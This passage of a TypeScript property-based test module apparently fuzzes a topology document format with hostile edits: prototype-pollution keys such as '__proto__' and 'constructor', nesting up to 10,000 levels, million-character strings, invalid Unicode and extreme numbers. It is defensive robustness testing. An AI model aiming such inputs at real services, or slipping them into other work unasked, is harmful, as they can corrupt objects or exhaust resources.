  | { op: 'set'; at: number; value: unknown }
  | { op: 'delete'; at: number }
  | { op: 'duplicate'; at: number; index: number }
  | { op: 'swap'; at: number; i: number; j: number }
  | { op: 'rename'; at: number; key: string }
  | { op: 'hugeString'; at: number; length: number }
  | { op: 'deepNest'; at: number; depth: number; object: boolean }
  | { op: 'number'; at: number; value: number };

/** A deeply nested value built without recursion. */
export function deepNest(depth: number, object: boolean, leaf: unknown = 0): unknown {
  let v: unknown = leaf;
  for (let i = 0; i < depth; i++) v = object ? { a: v } : [v];
  return v;
}

/** Paths in a JSON value, containers included (the root is `[]`); no deeper than `maxDepth`, at most `limit`. */
export function jsonPaths(value: unknown, limit = 5_000, maxDepth = 12): PathKey[][] {
  const out: PathKey[][] = [];
  const queue: [unknown, PathKey[]][] = [[value, []]];
  for (let i = 0; i < queue.length && out.length < limit; i++) {
    const [v, path] = queue[i]!;
    out.push(path);
    if (path.length >= maxDepth || !v || typeof v !== 'object') continue;
    if (Array.isArray(v)) v.forEach((x, j) => queue.push([x, [...path, j]]));
    else for (const k of Object.keys(v)) queue.push([(v as Record<string, unknown>)[k], [...path, k]]);
  }
  return out;
}

function parentOf(
  root: unknown,
  path: readonly PathKey[],
): { parent: Record<PathKey, unknown> | unknown[]; key: PathKey } | undefined {
  if (path.length === 0) return undefined;
  let v: unknown = root;
  for (const k of path.slice(0, -1)) v = (v as Record<PathKey, unknown>)[k];
  return v && typeof v === 'object' ? { parent: v as Record<PathKey, unknown>, key: path[path.length - 1]! } : undefined;
}

/** Applies the edits to a deep copy; selectors wrap around the current paths. */
export function applyMutations(doc: unknown, mutations: readonly JsonMutation[]): unknown {
  let root: unknown = structuredClone(doc);
  for (const m of mutations) {
    const paths = jsonPaths(root);
    const path = paths[m.at % paths.length]!;
    const target = path.reduce<unknown>((v, k) => (v as Record<PathKey, unknown>)[k], root);
    const place = parentOf(root, path);
    const put = (value: unknown) => {
      if (!place) root = value;
      else (place.parent as Record<PathKey, unknown>)[place.key] = value;
    };
    switch (m.op) {
      case 'set':
        put(m.value);
        break;
      case 'number':
        put(m.value);
        break;
      case 'hugeString':
        put('A'.repeat(m.length));
        break;
      case 'deepNest':
        put(deepNest(m.depth, m.object));
        break;
      case 'delete':
        if (!place) root = undefined;
        else if (Array.isArray(place.parent)) place.parent.splice(place.key as number, 1);
        else delete (place.parent as Record<PathKey, unknown>)[place.key];
        break;
      case 'duplicate':
        // The same value twice (shared, not copied: it may be thousands of levels deep).
        if (Array.isArray(target) && target.length)
          target.splice(m.index % (target.length + 1), 0, target[m.index % target.length]);
        else if (place && Array.isArray(place.parent)) place.parent.splice(place.key as number, 0, target);
        break;
      case 'swap':
        if (Array.isArray(target) && target.length > 1) {
          const i = m.i % target.length;
          const j = m.j % target.length;
          [target[i], target[j]] = [target[j], target[i]];
        }
        break;
      case 'rename':
        if (place && !Array.isArray(place.parent)) {
          const parent = place.parent as Record<PathKey, unknown>;
          const v = parent[place.key];
          delete parent[place.key];
          Object.defineProperty(parent, m.key, { value: v, enumerable: true, writable: true, configurable: true });
        }
        break;
    }
  }
  return root;
}

const EDGE_NUMBERS = [
  -1,
  0,
  -0,
  0.5,
  1.5,
  64,
  65,
  65535,
  65536,
  LIMITS.maxServersPerPool,
  LIMITS.maxServersPerPool + 1,
  1_000_000,
  1_000_001,
  10_000_001,
  2 ** 31,
  2 ** 53,
  1e308,
  -1e308,
  Number.MIN_VALUE,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  Number.NEGATIVE_INFINITY,
];

/** Values a hostile editor may put anywhere: JSON of every shape, wrong enum values, ids that collide, hostile text. */
const arbHostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(
      ...HOSTILE_NAMES,
      TOO_LONG_NAME,
      'frontEndPool',
      'sqlStore',
      'pairing',
      'mirror',
      'backEnd',
      '2019',
      '2015',
      'alwaysOnAg',
      'mirroring',
      'sfb-topology',
      'dc1',
      'pool-a',
      'l1',
      '__proto__',
      'constructor',
    ),
  },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(undefined, [], {}, null, 1, true, [null], { x: 1, y: 2 }) },
  { weight: 1, arbitrary: arbId },
);

export const arbJsonMutation: fc.Arbitrary<JsonMutation> = fc.oneof(
  { weight: 5, arbitrary: fc.record({ op: fc.constant('set' as const), at: fc.nat(), value: arbHostileValue }) },
  { weight: 3, arbitrary: fc.record({ op: fc.constant('delete' as const), at: fc.nat() }) },
  { weight: 2, arbitrary: fc.record({ op: fc.constant('duplicate' as const), at: fc.nat(), index: fc.nat() }) },
  { weight: 1, arbitrary: fc.record({ op: fc.constant('swap' as const), at: fc.nat(), i: fc.nat(), j: fc.nat() }) },
  {
    weight: 1,
    arbitrary: fc.record({
      op: fc.constant('rename' as const),
      at: fc.nat(),
      key: fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('__proto__', 'constructor', 'prototype', 'kind', 'id')),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      op: fc.constant('hugeString' as const),
      at: fc.nat(),
      length: fc.constantFrom(
        LIMITS.maxNameChars + 1,
        LIMITS.maxTextChars + 1,
        LIMITS.maxDescriptionChars + 1,
        100_000,
        1_000_000,
      ),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      op: fc.constant('deepNest' as const),
      at: fc.nat(),
      depth: fc.constantFrom(10, 1_000, 10_000),
      object: fc.boolean(),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({ op: fc.constant('number' as const), at: fc.nat(), value: fc.constantFrom(...EDGE_NUMBERS) }),
  },
);

/**
 * A valid document and 1–4 hostile edits. Apply them with `applyMutations(original, mutations)`
 * inside the property: the edited value may be 10,000 levels deep, too deep to print.
 */
export function arbMutatedDocument(
  o: TopologyArbitraryOptions = {},
): fc.Arbitrary<{ original: Topology; mutations: JsonMutation[] }> {
  return fc.record({ original: arbTopology(o), mutations: fc.array(arbJsonMutation, { minLength: 1, maxLength: 4 }) });
}

/** JSON text that may be cut, have characters changed or text inserted. */
export const arbTextMutation = fc.oneof(
  fc.record({ op: fc.constant('truncate' as const), at: fc.double({ min: 0, max: 1, noNaN: true }) }),
  fc.record({
    op: fc.constant('replace' as const),
    at: fc.double({ min: 0, max: 1, noNaN: true }),
    text: fc.string({ minLength: 1, maxLength: 3 }),
  }),
  fc.record({
    op: fc.constant('insert' as const),
    at: fc.double({ min: 0, max: 1, noNaN: true }),
    text: fc.oneof(
      fc.string({ maxLength: 8 }),
      fc.constantFrom('{', '}', '[', ']', ',', '"', '\\', '\\u', ':', 'null', '\u0000', '\uFEFF', '\ud800'),
    ),
  }),
);
export type TextMutation = typeof arbTextMutation extends fc.Arbitrary<infer T> ? T : never;

export function applyTextMutations(text: string, mutations: readonly TextMutation[]): string {
  let s = text;
  for (const m of mutations) {
    const at = Math.min(s.length, Math.floor(m.at * s.length));
    switch (m.op) {
      case 'truncate':
        s = s.slice(0, at);
        break;
      case 'replace':
        s = s.slice(0, at) + m.text + s.slice(at + m.text.length);
        break;
      case 'insert':
        s = s.slice(0, at) + m.text + s.slice(at);
        break;
    }
  }
  return s;
}
